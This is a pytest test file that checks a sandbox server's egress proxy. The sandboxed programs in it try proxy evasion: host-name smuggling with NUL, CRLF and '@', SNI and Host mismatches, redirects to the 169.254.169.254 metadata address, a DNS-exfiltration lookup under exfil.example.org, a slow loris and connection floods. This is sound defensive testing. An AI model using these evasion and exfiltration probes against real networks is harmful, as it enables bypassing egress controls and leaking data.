# ruff: noqa: E501 - a program in a string keeps its own lines
"""E1 to E18 from an MCP client's end: programs in real sandboxes, a policy file, servers on loopback, and names
in the test's hands. What needs no sandbox to be looked at in full is in tests/access/egress, too."""

from __future__ import annotations

from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import anyio
import pytest
from anyio.abc import ByteStream, SocketAttribute

from sandbox_server.access.egress import connection, requests
from tests.access.egress.world import client_hello, echo, records
from tests.access.http.lab import Script, Seen, Server, answer, serve
from tests.access.whole import Whole, Zone, until, whole

pytestmark = pytest.mark.anyio

SITE, ECHO, PLAIN = "site.example.com", "echo.example.com", "plain.example.com"
POLICY = """
roles:
  basic:
    tools: {allow: [code_execution]}
    code:
      egress: site
      defaults: {wall: 20s}
      languages: {python: {}, bash: {image: python}}
egress:
  profiles:
    site:
      allow:
        - {hosts: ["site.example.com:SITE"], methods: [GET, POST], paths: ["/open/**"], addresses: ["127.0.0.1/32"]}
        - {hosts: ["echo.example.com:ECHO"], opaque: true, addresses: ["127.0.0.1/32"]}
        - {hosts: ["plain.example.com:ECHO"], addresses: ["127.0.0.1/32"]}
        - {hosts: ["free.example.com:SITE"], addresses: ["127.0.0.1/32"]}
        - {hosts: ["inner.example.com:80", "inner.example.com:443"]}
MORE
deployment: {warm: 0, sandboxes: 4}
"""
PRELUDE = """
import os, socket, sys, time, urllib.error, urllib.request
from urllib.parse import urlsplit
SITE, ECHO, CANARY = {site}, {echo}, {canary}
def proxy():
    return urlsplit(os.environ["HTTP_PROXY"]).hostname, urlsplit(os.environ["HTTP_PROXY"]).port
def fetch(url, data=None, **headers):
    try:
        with urllib.request.urlopen(urllib.request.Request(url, data, headers), timeout=10) as answer:
            return answer.status, answer.read().decode()
    except urllib.error.HTTPError as error:
        return error.code, error.read().decode().strip()
    except OSError as error:
        return "error", str(error)
def talk(*pieces):
    said = b""
    with socket.create_connection(proxy(), timeout=10) as s:
        for piece in pieces:
            s.sendall(piece)
            said += s.recv(65536)
        while more := s.recv(65536):
            said += more
    return said
def status(said):
    return said.split(b" ")[1].decode() if said else "closed"
def door(host, port):
    with socket.create_connection(proxy(), timeout=10) as s:
        s.sendall(connect(host, port))
        return status(s.recv(65536))
def connect(host, port, *lines):
    return b"\\r\\n".join([b"CONNECT %b:%d HTTP/1.1" % (host, port), *(lines or [b"Host: %b:%d" % (host, port)]), b"", b""])
def tunnel(host=b"echo.example.com"):
    s = socket.create_connection(proxy(), timeout=20)
    s.sendall(connect(host, ECHO))
    assert b" 200 " in s.recv(1000)
    return s
"""


@dataclass
class Echo:
    """A server that says back what it hears. `connections` are those that it had."""

    port: int = 0
    connections: int = 0
    heard: list[bytes] = field(default_factory=list)

    async def serve(self, stream: ByteStream) -> None:
        self.connections += 1
        async with stream:
            try:
                await echo(stream)
            except (anyio.EndOfStream, anyio.BrokenResourceError):
                return


@dataclass
class Here:
    server: Whole
    zone: Zone
    site: Server
    echo: Echo
    script: Script

    def policy(self, more: str = "") -> str:
        found = POLICY.replace(":SITE", f":{self.site.port}").replace(":ECHO", f":{self.echo.port}")
        return found.replace("MORE", more)

    async def run(self, code: str, language: str = "python", **arguments: Any) -> list[str]:
        """What a program says, line by line."""
        if language == "python":
            code = PRELUDE.format(site=self.site.port, echo=self.echo.port, canary=0) + code
        told = await self.server.call("code_execution", code=code, language=language, **arguments)
        assert told.get("outcome") == "ok", told
        lines: list[str] = told["stdout"].splitlines()
        return lines

    @property
    def tunnels(self) -> int:
        return self.server.enforced.outside.gateway.connections


@pytest.fixture(scope="module")
async def opened(anyio_backend: str, tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Here]:
    directory: Path = tmp_path_factory.mktemp("way-out")
    zone, echoing = Zone(), Echo()

    async def script(seen: Seen, stream: ByteStream) -> None:
        await here.script(seen, stream)

    listener: Any = await anyio.create_tcp_listener(local_host="127.0.0.1")
    echoing.port = listener.extra(SocketAttribute.local_port)
    async with serve(script) as site, listener, anyio.create_task_group() as tasks:
        tasks.start_soon(listener.serve, echoing.serve)
        first = Here(None, zone, site, echoing, answer())  # type: ignore[arg-type]
        async with whole(directory, first.policy(), zone, docker=True, era="2026-07-28") as server:
            here = Here(server, zone, site, echoing, answer())
            yield here
        tasks.cancel_scope.cancel()


@pytest.fixture
async def here(opened: Here) -> AsyncIterator[Here]:
    """Names are at this host, the policy is the first one, and nothing of the test before is left."""
    opened.zone.clear()
    opened.zone.others = ["127.0.0.1"]
    opened.site.seen.clear()
    opened.echo.connections = opened.site.connections = 0
    opened.script = answer()
    yield opened
    await until(lambda: opened.tunnels == 0)
    assert await opened.server.rewrite(opened.policy())


async def test_e1_an_allowlist_without_hosts_lets_nothing_out(here: Here) -> None:
    empty = (
        here.policy().partition("      allow:")[0] + "      allow: []\ndeployment: {warm: 0, sandboxes: 4}\n"
    )
    assert await here.server.rewrite(empty)
    code = """
for url in (f"http://site.example.com:{SITE}/open/", "http://1.1.1.1/"):
    print(fetch(url)[0])
for host in (b"site.example.com", b"echo.example.com", b"127.0.0.1"):
    print(door(host, SITE))
"""
    assert await here.run(code) == ["403"] * 5
    assert (here.zone.asked, here.site.connections) == ([], 0)


async def test_e2_plain_http_is_filtered_like_https(here: Here) -> None:
    code = """
base = f"http://site.example.com:{SITE}"
for path in ("/open/a", "/closed", "/open/../closed", "/open/%2e%2e/closed", "/%6fpen/b"):
    print(fetch(base + path)[0])
print(fetch(base + "/open/a", b"x")[0])
import http.client
link = http.client.HTTPConnection(*proxy())
link.request("DELETE", base + "/open/a")
print(link.getresponse().status)
print(fetch("http://other.example.com/")[0], "403" in fetch("https://other.example.com/")[1])
print(door(b"site.example.com", SITE))
"""
    assert await here.run(code) == ["200", "403", "403", "403", "200", "200", "403", "403 True", "403"]
    assert [each.line for each in here.site.seen] == [
        "GET /open/a HTTP/1.1",
        "GET /open/b HTTP/1.1",
        "POST /open/a HTTP/1.1",
    ]


async def test_e3_another_port_of_an_allowed_host_is_denied(here: Here) -> None:
    code = """
for port in (22, 443, 80, ECHO):
    print(door(b"site.example.com", port), fetch(f"http://site.example.com:{port}/open/")[0])
"""
    assert await here.run(code) == ["403 403"] * 4
    assert (here.echo.connections, here.zone.asked) == (0, [])


async def test_e4_without_the_proxy_there_is_no_route(here: Here) -> None:
    url = f"http://127.0.0.1:{here.site.port}/open/"
    curl = f"""
for url in {url} http://{SITE}:{here.site.port}/open/ http://1.1.1.1/; do
  curl -s --noproxy '*' -m 3 -o /dev/null -w '%{{http_code}} ' $url; echo $?
done
env -i curl -s -m 3 http://{SITE}:{here.site.port}/open/; echo $?
curl -s -m 5 http://{SITE}:{here.site.port}/open/; echo " $?"
"""
    *without, by_it = await here.run(curl, "bash")
    assert all(line.split()[-1] in ("6", "7") for line in without), without
    assert by_it == "ok 0"
    code = """
os.environ |= {"NO_PROXY": "*", "no_proxy": "*"}
print(fetch(f"http://site.example.com:{SITE}/open/")[0], fetch(f"http://127.0.0.1:{SITE}/open/")[0])
"""
    assert await here.run(code) == ["error error"]
    assert here.site.connections == 1


async def test_e5_a_relay_inside_gets_no_further_than_its_sandbox(here: Here) -> None:
    code = """
import threading
relay = socket.create_server(("127.0.0.1", 0))
def carry():
    while True:
        inner, _ = relay.accept()
        outer = socket.create_connection(proxy())
        outer.sendall(inner.recv(65536)); inner.sendall(outer.recv(65536)); inner.close()
threading.Thread(target=carry, daemon=True).start()
def by_relay(data):
    with socket.create_connection(relay.getsockname()) as s:
        s.sendall(data); return status(s.recv(65536))
print(by_relay(connect(b"evil.example.org", 443)), by_relay(connect(b"echo.example.com", ECHO)))
here, there = relay.getsockname()[1], proxy()[1]
print([door(b"127.0.0.1", port) for port in (here, there)])
"""
    assert await here.run(code) == ["403 200", "['403', '403']"]


HELLOS = {
    "Host is not CONNECT's authority": ("", "400"),
    "Host is not SNI": (repr(records(client_hello("other.example.com"))), "alert"),
    "missing SNI": (repr(records(client_hello(None))), "alert"),
    "ECH": (repr(records(client_hello(PLAIN, (0xFE0D, b"\0" * 64)))), "alert"),
}


@pytest.mark.parametrize("item", HELLOS)
async def test_e6_a_tunnel_leads_to_the_host_that_it_names_everywhere(item: str, here: Here) -> None:
    hello, expected = HELLOS[item]
    if not hello:
        code = """
said = talk(connect(b"plain.example.com", ECHO, b"Host: evil.example.org:443"))
print(status(said))
said = talk(b"GET http://site.example.com:%d/open/ HTTP/1.1\\r\\nHost: evil.example.org\\r\\n\\r\\n" % SITE)
print(status(said))
"""
        assert await here.run(code) == [expected] * 2
        assert here.echo.connections == here.site.connections == 0
        return
    code = f"""
said = talk(connect(b"plain.example.com", ECHO), {hello})
print("alert" if said.endswith(bytes((21, 3, 3, 0, 2, 2, 49))) else said)
print("echo" if {hello} in said else "nothing")
right = {records(client_hello(PLAIN))!r}
s = tunnel(b"plain.example.com")
s.sendall(right)
print(s.recv(65536) == right)
"""
    assert await here.run(code) == [expected, "nothing", "True"]


async def test_e6_http_in_a_tunnel_names_the_tunnels_host(here: Here) -> None:
    code = """
for host in (b"evil.example.org", b"plain.example.com", b"free.example.com:%d" % SITE):
    said = talk(connect(b"free.example.com", SITE), b"GET /open/ HTTP/1.1\\r\\nHost: %b\\r\\nConnection: close\\r\\n\\r\\n" % host)
    print(status(said.partition(b"\\r\\n\\r\\n")[2]))
"""
    assert await here.run(code) == ["400", "400", "200"]


async def test_e7_a_request_names_its_whole_url(here: Here) -> None:
    code = """
for target in (b"/open/", b"//site.example.com:%d/open/" % SITE, b"*", b"https://site.example.com:%d/open/" % SITE,
               b"http://site.example.com:%d/open/" % SITE):
    print(status(talk(b"GET %b HTTP/1.1\\r\\nHost: site.example.com:%d\\r\\nConnection: close\\r\\n\\r\\n" % (target, SITE))))
said = talk(connect(b"free.example.com", SITE), b"GET http://free.example.com:%d/open/ HTTP/1.1\\r\\nHost: free.example.com:%d\\r\\n\\r\\n" % (SITE, SITE))
print(status(said.partition(b"\\r\\n\\r\\n")[2]))
"""
    said = await here.run(code)
    assert [each in ("400", "403") for each in said] == [True, True, True, True, False, True]
    assert said[4] == "200"


@pytest.mark.parametrize(
    "address", ["127.0.0.1", "10.1.2.3", "169.254.169.254", "fd00:ec2::254", "::ffff:127.0.0.1"]
)
async def test_e8_an_allowed_name_at_a_forbidden_address_is_denied(address: str, here: Here) -> None:
    here.zone.names["inner.example.com"] = [[address]]
    code = """
told = fetch("http://inner.example.com/")
print(told[0], "floor.address" in told[1], status(talk(connect(b"inner.example.com", 443))))
print(talk(b"\\5\\1\\0\\5\\1\\0\\3\\x11inner.example.com\\1\\xbb")[:4])
"""
    assert await here.run(code) == ["403 True 403", "b'\\x05\\x00\\x05\\x02'"]


async def test_e8_a_redirect_is_the_programs_own_and_judged_like_any_request(here: Here) -> None:
    here.script = answer(b"", "302 X", Location="http://169.254.169.254/latest/")
    code = """
told = fetch(f"http://site.example.com:{SITE}/open/")
print(told[0], "egress_denied" in told[1])
"""
    assert await here.run(code) == ["403 True"]
    assert [each.target for each in here.site.seen] == ["/open/"]


async def test_e9_a_name_is_looked_up_once_for_a_connection_and_anew_for_the_next(here: Here) -> None:
    here.zone.names[SITE] = [["127.0.0.1"], ["10.0.0.1"], ["127.0.0.1", "10.0.0.1"], ["127.0.0.1"]]
    code = 'print([fetch(f"http://site.example.com:{SITE}/open/")[0] for _ in range(4)])'
    assert await here.run(code) == ["[200, 403, 403, 200]"]
    assert here.zone.asked == [SITE] * 4


SPELT = {
    "NUL": b"site\0.example.com",
    "CR": b"site.example.com\r",
    "LF": b"site.example.com\n",
    "space": b"site.example.com .evil.example.org",
    "%00": b"site.example.com%00.evil.example.org",
    "@": b"site.example.com@evil.example.org",
    "brackets": b"[[::1]]",
    "unicode": "s\u0456te.example.com".encode(),
    "a backslash": b"site.example.com\\.evil.example.org",
}


@pytest.mark.parametrize("item", SPELT)
async def test_e10_a_host_that_parsers_read_differently_is_refused(item: str, here: Here) -> None:
    code = f"""
host = {SPELT[item]!r}
print(status(talk(connect(host, SITE, b"Host: site.example.com:%d" % SITE))))
print(status(talk(b"GET http://%b:%d/open/ HTTP/1.1\\r\\nHost: site.example.com:%d\\r\\n\\r\\n" % (host, SITE, SITE))))
print(talk(b"\\5\\1\\0", b"\\5\\1\\0\\3%c%b" % (len(host), host) + SITE.to_bytes(2, "big"))[:4] == b"\\5\\0\\5\\2")
"""
    *http, socks = await here.run(code)
    assert (set(http) <= {"400", "403"}, socks) == (True, "True"), http
    assert (here.site.connections, here.zone.asked) == (0, [])


@pytest.mark.parametrize("host", ["SITE.Example.COM", "site.example.com.", "SITE.EXAMPLE.COM."])
async def test_e10_upper_case_and_a_trailing_dot_are_the_same_host(host: str, here: Here) -> None:
    assert await here.run(f'print(fetch(f"http://{host}:{{SITE}}/open/")[0])') == ["200"]
    assert here.zone.asked == [SITE]
    assert here.site.seen[0].header("host") == f"{SITE}:{here.site.port}"


HOLD = """
s = tunnel()
s.sendall(b"x"); assert s.recv(1) == b"x"
try: print(s.recv(1))
except OSError as error: print(b"")
print(fetch(f"http://site.example.com:{SITE}/open/")[0], door(b"echo.example.com", ECHO))
"""


async def test_e11_a_reload_closes_a_tunnel_that_is_not_allowed_any_more(here: Here) -> None:
    said: list[str] = []

    async def hold() -> None:
        said.extend(await here.run(HOLD))

    async with anyio.create_task_group() as tasks:
        tasks.start_soon(hold)
        await until(lambda: here.echo.connections == 1)
        assert await here.server.rewrite(here.policy().replace("echo.example.com", "other.example.com"))
    assert said == ["b''", "200 403"]
    closed = [each for each in await here.server.record("connection") if each["host"] == ECHO]
    assert [each["reason"] for each in closed[-2:]] == ["the policy has changed", "no rule allows this host"]


BROKEN = {
    "an unknown key": "enforcment: observe\n",
    "an unknown key of the profile": "      alow: []\n",
    "a host that is none": '      deny: [{hosts: ["*"]}]\n',
    "no YAML": "]{[\n",
}


@pytest.mark.parametrize("item", BROKEN)
async def test_e12_a_reload_that_is_broken_leaves_everything_as_it_was(item: str, here: Here) -> None:
    said: list[str] = []
    code = """
s = tunnel()
s.sendall(b"x"); assert s.recv(1) == b"x"
print(fetch(f"http://site.example.com:{SITE}/open/wait")[0])
s.sendall(b"y"); print(s.recv(1))
print(fetch(f"http://site.example.com:{SITE}/open/")[0], status(talk(connect(b"evil.example.org", 443))))
"""
    reached, go = anyio.Event(), anyio.Event()

    async def script(seen: Seen, stream: ByteStream) -> None:
        reached.set()
        await go.wait()
        await answer()(seen, stream)

    async def hold() -> None:
        said.extend(await here.run(code))

    here.script = script
    async with anyio.create_task_group() as tasks:
        tasks.start_soon(hold)
        await reached.wait()
        broken = here.policy(BROKEN[item]) if item != "no YAML" else here.policy() + BROKEN[item]
        assert not await here.server.rewrite(broken)
        go.set()
    assert said == ["200", "b'y'", "200 403"]


async def test_e13_nothing_but_tcp_by_the_proxy_gets_out(here: Here) -> None:
    """UDP and with it QUIC, ICMP, IPv6."""
    code = """
def attempt(family, kind, address, protocol=0):
    try:
        with socket.socket(family, kind, protocol) as s:
            s.settimeout(1)
            s.connect(address); s.send(b"x")
            return "out"
    except OSError: return "no"
four, six, tcp, udp = socket.AF_INET, socket.AF_INET6, socket.SOCK_STREAM, socket.SOCK_DGRAM
print(attempt(four, udp, ("1.1.1.1", 443)), attempt(four, udp, ("1.1.1.1", 53)), attempt(six, udp, ("2606:4700::1111", 443)))
print(attempt(four, socket.SOCK_RAW, ("1.1.1.1", 0), socket.IPPROTO_ICMP), attempt(four, udp, ("1.1.1.1", 0), socket.IPPROTO_ICMP))
print(attempt(six, tcp, ("2606:4700::1111", 443)))
print(talk(b"\\5\\1\\0", b"\\5\\3\\0\\1" + bytes(6))[:4], talk(b"\\5\\1\\0", b"\\5\\2\\0\\1" + bytes(6))[:4])
for literal in (b"[::1]", b"[2606:4700::1111]", b"[::ffff:127.0.0.1]"):
    print(status(talk(connect(literal, SITE))), fetch(f"http://{literal.decode()}:{SITE}/open/")[0])
print(talk(b"\\5\\1\\0", b"\\5\\1\\0\\4" + bytes(15) + b"\\1" + SITE.to_bytes(2, "big"))[:4])
"""
    refused = "b'\\x05\\x00\\x05\\x07'"
    assert await here.run(code) == [
        "no no no",
        "no no",
        "no",
        f"{refused} {refused}",
        *["403 403"] * 3,
        "b'\\x05\\x00\\x05\\x02'",
    ]


async def test_e14_plain_http_does_not_become_a_websocket(here: Here) -> None:
    code = """
ask = b"GET http://site.example.com:%d/open/ HTTP/1.1\\r\\nHost: site.example.com:%d\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\nSec-WebSocket-Key: eA==\\r\\nSec-WebSocket-Version: 13\\r\\n\\r\\n" % (SITE, SITE)
print(status(talk(ask)))
inner = ask.replace(b"http://site.example.com:%d" % SITE, b"").replace(b"site.", b"free.")
print(status(talk(connect(b"free.example.com", SITE), inner).partition(b"\\r\\n\\r\\n")[2]))
"""
    assert await here.run(code) == ["403", "403"]
    assert here.site.seen == []


async def test_e14_a_server_can_not_turn_plain_http_into_something_else(here: Here) -> None:
    async def switch(seen: Seen, stream: ByteStream) -> None:
        await stream.send(
            b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\nraw"
        )

    here.script = switch
    assert await here.run('print(fetch(f"http://site.example.com:{SITE}/open/")[0])') == ["502"]


async def test_e15_an_idle_tunnel_is_closed(here: Here) -> None:
    assert await here.server.rewrite(here.policy("      idle: 1s\n"))
    code = """
s = tunnel()
print(s.recv(1))
"""
    assert await here.run(code) == ["b''"]
    assert (await here.server.record("connection"))[-1]["reason"] == "limit: idle"


async def test_e15_a_tunnel_that_is_never_idle_ends_after_all_its_time(here: Here) -> None:
    assert await here.server.rewrite(here.policy("      total: 1s\n"))
    code = """
s = tunnel(); count = 0
try:
    while s.send(b"x") and s.recv(1): count += 1; time.sleep(0.01)
except OSError: pass
print(count > 3)
"""
    assert await here.run(code) == ["True"]
    assert (await here.server.record("connection"))[-1]["reason"] == "limit: total"


async def test_e15_a_slow_loris_is_left(here: Here, monkeypatch: pytest.MonkeyPatch) -> None:
    """It keeps on sending, a byte at a time, and never enough."""
    monkeypatch.setattr(requests, "HEAD_SECONDS", 0.5)
    monkeypatch.setattr(connection, "HEAD_SECONDS", 0.5)
    code = """
def loris(data, answers=b""):
    began = time.monotonic()
    with socket.create_connection(proxy(), timeout=10) as s:
        try:
            for byte in data:
                s.sendall(bytes((byte,)))
                time.sleep(0.05)
        except OSError: pass
    return time.monotonic() - began < 4
head = b"GET http://site.example.com/open/ HTTP/1.1\\r\\nX: " + b"a" * 200
print(loris(head), loris(b"CONNECT site.example.com:443 HTTP/1.1\\r\\nX: " + b"a" * 200), loris(b"\\5" + bytes((200,)) + bytes(200)))
"""
    assert await here.run(code) == ["True True True"]
    await until(lambda: here.tunnels == 0)


async def test_e15_more_tunnels_than_granted_wait_or_are_refused(here: Here) -> None:
    assert await here.server.rewrite(here.policy("      tunnels: 3\n"))
    most = 0

    async def watch() -> None:
        nonlocal most
        while True:
            most = max(most, here.tunnels)
            await anyio.sleep(0.005)

    code = """
held = []
for _ in range(3): held.append(tunnel())
extra = []
for _ in range(200):
    s = socket.socket(); s.setblocking(False)
    try: s.connect(proxy())
    except OSError: pass
    extra.append(s)
time.sleep(0.3)
held[0].sendall(b"x"); print(held[0].recv(1))
"""
    async with anyio.create_task_group() as tasks:
        tasks.start_soon(watch)
        assert await here.run(code) == ["b'x'"]
        tasks.cancel_scope.cancel()
    assert most == 3


async def test_e16_what_a_sandbox_sends_is_capped_over_all_its_connections(here: Here) -> None:
    assert await here.server.rewrite(here.policy("      bytes_out: 200KiB\n"))
    code = """
print([fetch(f"http://site.example.com:{SITE}/open/", b"x" * 60_000)[0] for _ in range(3)])
heard = 0
try:
    s = tunnel()
    while True:
        s.sendall(b"y" * 1000)
        more = s.recv(1000)
        heard += len(more)
        if not more: break
except OSError: pass
print(heard)
print(fetch(f"http://site.example.com:{SITE}/open/")[0])
"""
    first, heard, last = await here.run(code)
    assert (first, last) == ("[200, 200, 200]", "403")
    assert 0 < int(heard) < 200 * 1024 - 3 * 60_000
    assert [len(each.body) for each in here.site.seen] == [60_000] * 3


async def test_e17_a_name_that_is_not_allowed_leaves_no_trace_in_any_resolver(here: Here) -> None:
    code = """
name = "c2VjcmV0.exfil.example.org"
try: socket.getaddrinfo(name, 443); print("found")
except OSError: print("no resolver")
print(fetch(f"http://{name}/")[0], status(talk(connect(name.encode(), 443))))
print(talk(b"\\5\\1\\0", b"\\5\\1\\0\\3%c%b" % (len(name), name.encode()) + b"\\1\\xbb")[:4])
print(status(talk(connect(b"x.site.example.com", SITE))), status(talk(connect(b"site.example.com.evil.example.org", SITE))))
"""
    assert await here.run(code) == ["no resolver", "403 403", "b'\\x05\\x00\\x05\\x02'", "403 403"]
    assert here.zone.asked == []


async def test_e18_where_the_server_listens_is_out_of_reach_although_its_address_is_opened(
    here: Here,
) -> None:
    async with serve(answer()) as own:
        more = here.policy().replace(
            "      allow:\n",
            f'      allow:\n        - {{hosts: ["127.0.0.1:{own.port}", "own.example.com:{own.port}"], addresses: ["127.0.0.0/8"]}}\n',
        )
        assert await here.server.rewrite(more)
        code = f"""
plain = b"GET http://127.0.0.1:{own.port}/ HTTP/1.1\\r\\nHost: 127.0.0.1:{own.port}\\r\\nConnection: close\\r\\n\\r\\n"
print(status(talk(plain)), fetch("http://own.example.com:{own.port}/")[0], door(b"127.0.0.1", {own.port}))
"""
        assert await here.run(code) == ["200 200 200"]
        before = own.connections
        here.server.enforced.ports.add(own.port)
        assert await here.run(code) == ["403 403 403"]
        assert own.connections == before
